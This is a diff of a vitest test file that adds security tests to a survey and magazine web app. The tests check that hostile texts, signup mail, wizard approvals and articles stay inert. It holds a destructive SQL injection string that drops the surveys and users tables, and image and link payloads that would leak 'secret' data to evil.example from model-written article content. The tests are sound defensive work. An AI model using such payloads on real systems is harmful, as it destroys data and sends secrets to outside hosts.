@@ -1,10 +1,12 @@
 import { eq } from 'drizzle-orm'
 import { expect, test } from 'vitest'
 import { articles, chatMessages, magazines, shares, topics, users } from '#schema'
+import { aWizardSession, upToLast } from '#testing/access-wizards.ts'
 import type { Answer } from '#testing/browser.ts'
 import { ChatPage } from '#testing/chat-page.ts'
 import { HOSTILE_TEXTS } from '#testing/hostile-texts.ts'
-import { aGuest, aMember, type Person } from '#testing/people.ts'
+import { aGuest, aMember, anEmail, type Person, signUpForm } from '#testing/people.ts'
+import { listenTo } from '#testing/statements.ts'
 import { aDraft, aPublishedSurvey, aSurvey, save } from '#testing/surveys.ts'
 import { useTestApp } from '#testing/test-app.ts'
 
@@ -129,6 +131,120 @@ test('a chat holds hostile texts as text', async () => {
   await page.next('complete')
   expect((await page.history())[0]).toMatchObject({ role: 'user', content: question })
   page.leave()
+})
+
+test('wizards, check-ins and the configuration hold hostile texts as text', async () => {
+  const { db } = app.platform
+  const admin = await aMember(app)
+  await db.update(users).set({ isAdmin: true }).where(eq(users.id, admin.id))
+  for (const [at, text] of HOSTILE_TEXTS.entries()) {
+    const note = { body: text, applies_to: '2026-01-01', client_key: `hostile-${at}` }
+    expectData(await admin.browser.post('/api/features/checkin', { json: note }))
+    const config = { site: { name: text.slice(0, 40) } }
+    const saved = await admin.browser.post('/api/config', { json: { config_json: JSON.stringify(config) } })
+    if (saved.statusCode !== 200) expect(saved.statusCode).toBe(422)
+    const site = await app.browser().get('/api/site')
+    expectData(site)
+    if (saved.statusCode === 200) expect(site.json().name).toBe(text.slice(0, 40))
+  }
+  expectData(await admin.browser.get('/api/config'))
+  const page = (await app.browser().get('/')).body
+  expect(page).not.toMatch(/hurt\(|evil\.example/)
+  expect((await admin.browser.post('/api/config', { json: { config_json: '{}' } })).statusCode).toBe(200)
+  const notes = await admin.browser.get('/api/features/checkins?limit=200')
+  expectData(notes)
+  expect(notes.json().map(({ body }: { body: string }) => body)).toEqual(
+    expect.arrayContaining(HOSTILE_TEXTS),
+  )
+  const custom_instructions = HOSTILE_TEXTS.join('\n').slice(0, 1000)
+  const session = await aWizardSession(admin, 'survey', {
+    title: HOSTILE_TEXTS[0],
+    description: HOSTILE_TEXTS[3],
+    custom_instructions,
+  })
+  const path = `/api/survey-wizard/sessions/${session.id}`
+  const said = HOSTILE_TEXTS.slice(0, 12).join('\n')
+  expectData(await admin.browser.post(`${path}/messages`, { json: { content: said } }))
+  const stored = await admin.browser.get(path)
+  expectData(stored)
+  expect(stored.json()).toMatchObject({ title: HOSTILE_TEXTS[0], description: HOSTILE_TEXTS[3] })
+  expect(stored.json().messages.map(({ content }: { content: string }) => content)).toContain(said)
+})
+
+const MAIL_TAGS = [
+  'html',
+  'head',
+  'meta',
+  'title',
+  'style',
+  'body',
+  'table',
+  'tbody',
+  'tr',
+  'td',
+  'div',
+  'p',
+  'h1',
+  'a',
+  'br',
+  'span',
+  'strong',
+]
+
+test('a mail to somebody with a hostile name shows it as text, and leads nowhere else', async () => {
+  let sent = 0
+  for (const [at, text] of HOSTILE_TEXTS.entries()) {
+    const email = anEmail(`hostile${at}`)
+    const form = signUpForm(email, { first_name: text.slice(0, 60) })
+    const answer = await app.browser().post('/api/signup', { multipart: form })
+    if (answer.statusCode !== 200) {
+      expect(answer.statusCode, answer.body).toBe(422)
+      continue
+    }
+    const { raw } = await app.mailTo(email)
+    const [, html = ''] = /(<!doctype html[\s\S]*<\/html>)/i.exec(raw) ?? []
+    sent += html ? 1 : 0
+    const tags = (html.match(/<[a-z][^\s>/]*/gi) ?? []).map((tag) => tag.slice(1).toLowerCase())
+    expect(
+      [...new Set(tags)].filter((tag) => !MAIL_TAGS.includes(tag)),
+      text,
+    ).toEqual([])
+    expect(html, text).not.toMatch(/<[^>]*(?:evil\.example|hurt\()/)
+  }
+  expect(sent).toBeGreaterThan(10)
+})
+
+test('a statement that is edited into a wizard’s summary is never sent to the database', async () => {
+  const { database } = app.platform
+  const creator = await aMember(app)
+  const session = await upToLast(creator, 'survey', await aWizardSession(creator))
+  const summary = session.messages.at(-1)
+  const raw = JSON.parse(summary?.raw_json ?? '{}')
+  const sql_code = 'drop table surveys; drop table users cascade; -- approved'
+  const heard = listenTo(database, /drop\s+table/i)
+  const answer = await creator.browser.post(
+    `/api/survey-wizard/sessions/${session.id}/messages/${summary?.id}/approve`,
+    { json: { raw_json: JSON.stringify({ ...raw, sql_code }) } },
+  )
+  expect(answer.statusCode, answer.body).toBeLessThan(500)
+  const whole = await creator.browser.post(
+    `/api/survey-wizard/sessions/${session.id}/messages/${summary?.id}/approve`,
+    { json: { raw_json: sql_code } },
+  )
+  expect(whole.statusCode).toBeLessThan(500)
+  expect(heard.stop().map(({ text }) => text)).toEqual([])
+  expect((await app.browser().get('/api/surveys')).statusCode).toBe(200)
+  expect(await creator.browser.user()).toMatchObject({ id: creator.id })
+})
+
+test('what a model puts into an article to be fetched is not there when it is read', async () => {
+  const owner = await aMember(app)
+  const stolen =
+    '![one](https://evil.example/?data=secret) <img src="https://evil.example/?data=secret"> [here](https://evil.example/?data=secret)'
+  const id = await anArticle(owner, { body: `<p>${stolen}</p>`, standfirst: stolen, description: stolen })
+  const read = await owner.browser.get(`/api/article/${id}`)
+  expectData(read)
+  expect(read.json().body).not.toMatch(/<(?:img|a|link|source|video|iframe)\b|\b(?:src|href|style)=/i)
 })
 
 const STOLEN = {
